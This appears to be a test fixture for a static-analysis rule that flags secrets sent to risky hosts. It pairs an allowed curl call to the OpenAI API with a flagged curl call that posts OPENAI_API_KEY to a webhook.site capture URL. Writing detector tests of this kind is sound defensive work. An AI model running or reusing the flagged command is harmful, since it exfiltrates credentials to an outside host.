#!/bin/sh
# ok: combination-secret-to-risky-host
curl -s -H "Authorization: Bearer ${OPENAI_API_KEY}" https://api.openai.com/v1/models
# ruleid: combination-secret-to-risky-host
curl -s -d "k=${OPENAI_API_KEY}" https://webhook.site/0c1d2e3f-aaaa-bbbb-cccc-123456789abc
